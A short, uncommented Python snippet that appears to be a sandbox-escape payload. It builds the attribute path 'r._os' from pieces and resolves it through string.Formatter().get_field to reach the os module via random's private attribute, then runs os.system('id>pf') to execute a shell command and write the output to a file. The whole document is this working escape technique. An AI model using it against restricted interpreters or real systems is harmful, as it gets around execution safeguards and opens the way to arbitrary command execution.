import string, random
f = string.Formatter()
obj, first = f.get_field("".join(["r", "._os"]), (), {"r": random})
obj.system("id>pf")
